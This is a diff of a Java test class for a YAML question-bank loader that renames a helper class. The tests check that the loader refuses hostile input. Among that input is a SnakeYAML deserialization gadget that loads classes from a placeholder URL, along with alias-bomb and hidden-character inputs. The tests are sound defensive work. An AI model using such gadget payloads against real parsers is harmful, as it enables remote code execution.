@@ -1,10 +1,11 @@
 package guide.bank;
 
-import static guide.bank.Deck.bank;
-import static guide.bank.Deck.question;
-import static guide.bank.Deck.withLines;
+import static guide.fixture.TestBank.bank;
+import static guide.fixture.TestBank.question;
+import static guide.fixture.TestBank.withLines;
 import static org.assertj.core.api.Assertions.assertThat;
 
+import guide.fixture.TestBank;
 import java.nio.file.Path;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.Timeout;
@@ -38,7 +39,7 @@ class LimitsTest {
         for (char c = 'b'; c <= 'i'; c++) {
             text.append(c + ": &" + c + " [" + ("*" + (char) (c - 1) + ", ").repeat(8) + "*" + (char) (c - 1) + "]\n");
         }
-        assertThat(new Deck(folder).with("deck.yaml", text.toString()).problems())
+        assertThat(new TestBank(folder).with("deck.yaml", text.toString()).problems())
                 .element(2)
                 .isEqualTo("deck.yaml:1:4: '&' at the start of a text makes it an anchor, which is not allowed; "
                         + "put the text in quotes");
@@ -46,7 +47,9 @@ class LimitsTest {
 
     @Test
     void selfReference_isRefused() {
-        assertThat(new Deck(folder).with("deck.yaml", "questions: &q [*q]\n").problems())
+        assertThat(new TestBank(folder)
+                        .with("deck.yaml", "questions: &q [*q]\n")
+                        .problems())
                 .containsExactly(
                         "deck.yaml:1:12: '&' at the start of a text makes it an anchor, which is not allowed; "
                                 + "put the text in quotes",
@@ -58,7 +61,9 @@ class LimitsTest {
     void tagThatNamesAClass_isRefused() {
         String gadget =
                 "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]";
-        assertThat(new Deck(folder).with("deck.yaml", "questions: " + gadget).problems())
+        assertThat(new TestBank(folder)
+                        .with("deck.yaml", "questions: " + gadget)
+                        .problems())
                 .first()
                 .isEqualTo("deck.yaml:1:12: '!' at the start of a text makes it a tag, which is not allowed; "
                         + "put the text in quotes");
@@ -88,7 +93,7 @@ class LimitsTest {
     void longField_isRefused() {
         assertThat(only(withLines("sources: [" + "x".repeat(20_001) + "]")))
                 .isEqualTo("deck.yaml:5:13: an item of 'sources' is longer than 20,000 characters");
-        assertThat(new Deck(folder)
+        assertThat(new TestBank(folder)
                         .with("deck.yaml", withLines("sources: [" + "x".repeat(20_000) + "]"))
                         .problems())
                 .isEmpty();
@@ -103,10 +108,10 @@ class LimitsTest {
                     .append(19_999 - i)
                     .append("]\n");
         }
-        Deck deck = new Deck(folder).with("deck.yaml", text.toString());
-        assertThat(deck.read().bank().questions()).hasSize(20_000);
-        deck.with("deck.yaml", text + question("one-more"));
-        assertThat(deck.problems())
+        TestBank testBank = new TestBank(folder).with("deck.yaml", text.toString());
+        assertThat(testBank.read().bank().questions()).hasSize(20_000);
+        testBank.with("deck.yaml", text + question("one-more"));
+        assertThat(testBank.problems())
                 .containsExactly(
                         "deck.yaml:80002:3: this list has more than 20,000 items; split it into several files");
     }
@@ -120,7 +125,7 @@ class LimitsTest {
                     + "  points: [one thing, another, and a third]\n  tags: [x, y]\n");
         }
         assertThat(text.length()).isBetween(3 * MEGABYTE, 4 * MEGABYTE);
-        assertThat(new Deck(folder)
+        assertThat(new TestBank(folder)
                         .with("deck.yaml", text.toString())
                         .read()
                         .bank()
@@ -162,8 +167,8 @@ class LimitsTest {
     @Test
     void countlessDanglingReferences_areToldInTime() {
         String line = "    reference-00" + ", reference-01".repeat(3000) + ",\n";
-        Deck deck = new Deck(folder).with("deck.yaml", withLines("see: [", line.repeat(6), "]"));
-        assertThat(deck.problems()).hasSize(101);
+        TestBank testBank = new TestBank(folder).with("deck.yaml", withLines("see: [", line.repeat(6), "]"));
+        assertThat(testBank.problems()).hasSize(101);
     }
 
     @Test
@@ -172,7 +177,7 @@ class LimitsTest {
         for (int i = 0; i < 20_000; i++) {
             text.append("  k").append(i).append(": x\n");
         }
-        assertThat(new Deck(folder).with("deck.yaml", text.toString()).problems())
+        assertThat(new TestBank(folder).with("deck.yaml", text.toString()).problems())
                 .hasSize(101)
                 .first()
                 .isEqualTo("deck.yaml: warning: has more warnings than the 100 shown");
@@ -181,7 +186,7 @@ class LimitsTest {
     @Test
     void countlessHiddenCharacters_areToldInTime() {
         String line = "# " + "\u202E".repeat(20_000) + "\n";
-        assertThat(new Deck(folder)
+        assertThat(new TestBank(folder)
                         .with("deck.yaml", withLines() + line.repeat(60))
                         .problems())
                 .hasSize(101);
@@ -190,20 +195,20 @@ class LimitsTest {
     @Test
     void countlessEscapes_areToldInTime() {
         String text = withLines("sources: [\"" + "\\e".repeat(9_000) + "\"]");
-        assertThat(new Deck(folder).with("deck.yaml", text).problems()).hasSize(101);
+        assertThat(new TestBank(folder).with("deck.yaml", text).problems()).hasSize(101);
     }
 
     @Test
     void countlessEscapesInEveryLine_areToldInTime() {
         String line = "\\e".repeat(30_000) + "\\\n   ";
         String text = withLines("sources: [\"" + line.repeat(60) + "\"]");
-        assertThat(new Deck(folder).with("deck.yaml", text).problems()).hasSize(101);
+        assertThat(new TestBank(folder).with("deck.yaml", text).problems()).hasSize(101);
     }
 
     @Test
     void refusedEscapeBehindCountlessHiddenOnes_isTold() {
         String text = withLines("sources: [\"" + "\\u202e".repeat(300) + "\\e\"]");
-        assertThat(new Deck(folder).with("deck.yaml", text).problems())
+        assertThat(new TestBank(folder).with("deck.yaml", text).problems())
                 .hasSize(102)
                 .contains("deck.yaml:5:1814: this escape stands for control character U+001B (escape); remove it");
     }
@@ -213,11 +218,11 @@ class LimitsTest {
         String line = "    😀" + ",a".repeat(3_200) + ",\n";
         String longLine = "    😀" + ",a😀".repeat(8_000) + ",\n";
         String text = withLines("sources: [😀,", line + longLine.repeat(2), "]");
-        assertThat(new Deck(folder).with("deck.yaml", text).problems()).isEmpty();
+        assertThat(new TestBank(folder).with("deck.yaml", text).problems()).isEmpty();
     }
 
     private String only(String text) {
-        var problems = new Deck(folder).with("deck.yaml", text).problems();
+        var problems = new TestBank(folder).with("deck.yaml", text).problems();
         assertThat(problems).hasSize(1);
         return problems.get(0);
     }
